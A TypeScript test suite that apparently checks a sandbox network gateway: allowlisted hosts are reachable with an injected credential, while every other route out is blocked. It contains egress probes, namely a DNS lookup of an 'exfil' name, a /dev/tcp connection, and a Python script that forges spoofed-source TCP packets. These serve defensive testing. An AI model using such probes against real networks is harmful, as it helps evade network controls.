/** A namespace whose default route is the gate: clients that know of no proxy reach what is listed, and nothing else. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { Box } from "../support/box.ts";
import { boxAddress, createBox, forward, run, shell } from "../support/box.ts";
import type { Gate } from "../support/gate.ts";
import { SECRET, startGate } from "../support/gate.ts";
import type { Origin } from "../support/origin.ts";
import { createOrigin, respond } from "../support/origin.ts";
import type { Packets } from "../support/packets.ts";
import { watchPackets } from "../support/packets.ts";
import type { Internet } from "../support/private-internet.ts";
import { createInternet, GATE_V4, GATE_V6, PUBLIC_V4, PUBLIC_V6 } from "../support/private-internet.ts";
import { listenOnHost, nowhere, waysOut } from "../support/ways-out.ts";

const NET = 80;
const MAC = "02:00:00:00:00:11";
const BOX = boxAddress(NET, 2);
const GATE = boxAddress(NET, 1);

let internet: Internet;
let gate: Gate;
let box: Box;
let origin: Origin;
let packets: Packets;

before(async () => {
  internet = await createInternet();
  internet.dns.set("api.test", { A: [PUBLIC_V4] });
  internet.dns.set("six.test", { AAAA: [PUBLIC_V6[0]] });
  internet.dns.set("db.test", { A: [PUBLIC_V4] });
  origin = await createOrigin(internet, { tls: ["api.test"], bound: true });
  await createOrigin(internet, { address: PUBLIC_V6[0], tls: ["six.test"], answer: () => respond("six") });
  await createOrigin(internet, { port: 80, answer: () => respond("plain") });
  await createOrigin(internet, {
    port: 5432,
    serve: ({ socket }) => void socket.end("server speaks first\n"),
  });
  await createOrigin(internet, { port: 8443, tls: ["api.test"] });
  await listenOnHost(internet);
  await forward(internet);
  box = await createBox(internet, { link: "sbx0", net: NET, host: 2, mac: MAC });
  packets = await watchPackets(internet);
  // Without the gate it all leaves: that is what the tests would see if a rule were missing.
  await box.run(["curl", "-sS", "--max-time", "1", `http://${PUBLIC_V4}/`]);
  assert.match((await packets.take()).join("\n"), /tcp 10\.80\.0\.2\.\d+ > 11\.0\.0\.10\.80 S/);
  gate = await startGate(internet, {
    listen: {
      proxy: "127.0.0.1:8080",
      admin: "0.0.0.0:9464",
      gateway: { address: "[::]:15001", dns: "[::]:15053", interfaces: ["sbx*"] },
    },
    sandboxes: [
      {
        id: "box",
        source: [BOX.v4, BOX.v6],
        interface: "sbx0",
        mac: MAC,
        network: {
          allowlist: [
            { domain: "api.test", transform: { Authorization: `Bearer ${SECRET}` } },
            { domain: "six.test" },
            { id: "db", domain: "db.test", ports: [5432], protocol: "tcp" },
          ],
        },
      },
    ],
  });
  await gate.admin("/healthz");
  await packets.take();
});
after(() => internet.close());

function curl(url: string, ...options: readonly string[]): ReturnType<Box["run"]> {
  return box.run(["curl", "-sS", "--max-time", "8", "--cacert", gate.caPem, ...options, url]);
}

describe("a namespace behind the gateway", () => {
  test("reaches a listed host with nothing set but trust, and the secret is put in", async () => {
    const { stdout, stderr } = await curl("https://api.test/hello");
    assert.equal(stdout, "ok", stderr);
    assert.ok(
      origin.connections.at(-1)?.received.includes(`Authorization: Bearer ${internet.canary.secret}`),
    );
    const record = await gate.record({ host: "api.test", listener: "gateway" });
    assert.equal(record["sandbox"], "box");
    assert.equal(record["client"], BOX.v4);
    assert.deepEqual(record["injected"], ["Authorization"]);
  });

  test("reaches one over IPv6 as well, from there and to there", async () => {
    const roots = join(internet.directory, `gate-${internet.gate.pid}`, "root.pem");
    const { stdout, stderr } = await curl("https://six.test/", "-6", "--cacert", roots);
    assert.equal(stdout, "six", stderr);
    const record = await gate.record({ host: "six.test", listener: "gateway" });
    assert.equal(record["client"], BOX.v6);
  });

  test("reads why a host is refused", async () => {
    const { stdout, stderr } = await curl("https://evil.example.org/");
    assert.equal(JSON.parse(stdout).error.reason, "no-rule-matched", stderr);
    const plain = await curl("http://evil.example.org/");
    assert.equal(JSON.parse(plain.stdout).error.reason, "no-rule-matched", plain.stderr);
  });

  test("reaches raw TCP by name, whoever speaks first", async () => {
    const { stdout } = await box.run(
      ["sh", "-c", "exec 3<>/dev/tcp/db.test/5432; head -1 <&3"].with(0, "bash"),
    );
    assert.equal(stdout, "server speaks first\n");
  });
});

async function leadsNowhere(what: string, command: readonly string[]): Promise<void> {
  await packets.take();
  const { code, stdout } = await box.run(command);
  assert.notEqual(code, 0, `${what}: ${stdout}`);
  assert.deepEqual(await packets.take(), [], what);
}

describe("nothing else leaves", () => {
  for (const url of [
    "https://api.test:8443/",
    `https://${PUBLIC_V4}/`,
    `http://${PUBLIC_V4}:5432/`,
    `https://[${PUBLIC_V6[0]}]/`,
    `http://${GATE.v4}:9464/metrics`,
    `http://${GATE_V4}:9464/metrics`,
    `http://[${GATE.v6}]:9464/metrics`,
    `http://${GATE.v4}:8080/`,
    `http://${GATE.v4}:15001/`,
    `http://${GATE.v4}:15053/`,
    `http://[${GATE.v6}]:15001/`,
  ]) {
    test(`by ${url}`, () => leadsNowhere(url, ["curl", "-sSfk", "--max-time", "2", url]));
  }

  for (const host of [PUBLIC_V4, PUBLIC_V6[0], GATE.v4]) {
    test(`by UDP to port 443 of ${host}, and it is told so at once`, async () => {
      await packets.take();
      const { stdout, stderr } = await box.run(["python3", "-c", DATAGRAM, host, "443"]);
      assert.match(stdout, /^refused/, stderr);
      assert.ok(Number(stdout.split(" ")[1]) < 0.2, stdout);
      assert.deepEqual(await packets.take(), []);
    });
  }

  test("by any of many ports, over TCP and UDP", async () => {
    const ways = { hosts: [GATE.v4, GATE.v6], gate: "alive" } as const;
    await packets.take();
    const { stdout, stderr } = await box.run(waysOut(ways));
    assert.equal(stdout, nowhere(ways), stderr);
    assert.deepEqual(await packets.take(), []);
  });

  test("by ICMP, by a protocol of its own, or by the host's loopback", async () => {
    await leadsNowhere("echo", ["ping", "-c1", "-W1", PUBLIC_V4]);
    await leadsNowhere("echo to the gate", ["ping", "-c1", "-W1", GATE.v4]);
    const raw =
      "import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_RAW,99); s.sendto(b'x',(sys.argv[1],0))";
    await packets.take();
    await box.run(["python3", "-c", raw, PUBLIC_V4]);
    assert.deepEqual(await packets.take(), []);
  });
});

describe("nothing else leaves either", () => {
  test("by a port that the host publishes for another of its guests", async () => {
    await shell(internet.gate, [
      "nft add table ip other",
      "nft 'add chain ip other pre { type nat hook prerouting priority dstnat; }'",
      `nft add rule ip other pre tcp dport 7777 dnat to ${PUBLIC_V4}:15001`,
      `nft add rule ip other pre udp dport 7777 dnat to ${PUBLIC_V4}:15053`,
    ]);
    await leadsNowhere("TCP", ["curl", "-sSf", "--max-time", "2", `http://${GATE.v4}:7777/`]);
    const { stdout } = await box.run(["python3", "-c", DATAGRAM, GATE.v4, "7777"]);
    assert.match(stdout, /^refused/);
    assert.deepEqual(await packets.take(), []);
    await shell(internet.gate, ["nft delete table ip other"]);
  });

  test("by DNS: no query of a sandbox goes out, whatever it asks and whomever", async () => {
    await packets.take();
    const ask =
      "import socket\nfor n in ('secret-data.exfil.test','evil.example.org','api.test'):\n print(socket.getaddrinfo(n,443,socket.AF_INET)[0][4][0])";
    const { stdout, stderr } = await box.run(["python3", "-c", ask]);
    assert.match(stdout, /^(198\.1[89]\.\d+\.\d+\n){3}$/, stderr);
    assert.deepEqual(await packets.take(), []);
  });
});

describe("who it is", () => {
  test("an address that is nobody's is reset, and recorded", async () => {
    await shell(box.namespace, ["ip addr add 10.80.0.9/24 dev e0"]);
    await packets.take();
    const { code, stderr } = await curl("http://api.test/", "--interface", "10.80.0.9");
    // With MAC and address bound to each other it does not even get that far.
    assert.notEqual(code, 0, stderr);
    assert.deepEqual(await packets.take(), []);
  });

  test("a source that is not its own, or that leads elsewhere, is dropped", async () => {
    for (const source of ["11.0.0.77", "10.80.0.1", "127.0.0.1"]) {
      await packets.take();
      const { stdout } = await box.run(["python3", "-c", SPOOF, source, PUBLIC_V4]);
      assert.equal(stdout, "sent\n");
      assert.deepEqual(await packets.take(), [], source);
    }
  });

  test("another MAC address is dropped", async () => {
    await shell(box.namespace, ["ip link set e0 address 02:00:00:00:00:66"]);
    const { code } = await box.run(["curl", "-sS", "--max-time", "2", `http://${PUBLIC_V4}/`]);
    assert.equal(code, 28, "it waits in vain");
    await shell(box.namespace, [`ip link set e0 address ${MAC}`]);
    assert.equal((await curl("https://api.test/again")).stdout, "ok");
  });
});

describe("from elsewhere", () => {
  test("a connection to the gateway's own port gets no answer", async () => {
    const listening = await shell(internet.gate, ["ss -ltn"]);
    assert.match(listening, /\*:15001/);
    for (const [address, from] of [
      [GATE_V4, PUBLIC_V4],
      [`[${GATE_V6}]`, PUBLIC_V6[0]],
    ] as const) {
      const ask = ["curl", "-sS", "--max-time", "1", "--interface", from];
      assert.equal((await run(internet.net, [...ask, `http://${address}:15001/`])).code, 28);
      // Where nothing listens it is told so: the way there is open.
      assert.equal((await run(internet.net, [...ask, `http://${address}:15002/`])).code, 7);
    }
    const own = await run(internet.gate, ["curl", "-sS", "--max-time", "1", "http://127.0.0.1:15001/"]);
    assert.equal(own.code, 28);
  });
});

const DATAGRAM = `
import socket, sys, time
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect((sys.argv[1], int(sys.argv[2])))
start = time.time()
s.send(b"x")
try: s.recv(1); print("answered")
except ConnectionRefusedError: print("refused", time.time() - start)
except TimeoutError: print("silence")
`;

/** A SYN from an address that is not ours, behind the kernel's back. */
const SPOOF = `
import socket, struct, sys
source, target = (socket.inet_aton(a) for a in sys.argv[1:3])
def total(data):
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
tcp = struct.pack("!HHIIBBHHH", 40000, 443, 1, 0, 5 << 4, 2, 65535, 0, 0)
tcp = tcp[:16] + struct.pack("!H", total(source + target + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
ip = struct.pack("!BBHHHBBH", 69, 0, 40, 1, 0, 64, 6, 0) + source + target
ip = ip[:10] + struct.pack("!H", total(ip)) + ip[12:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(ip + tcp, (sys.argv[2], 0))
print("sent")
`;
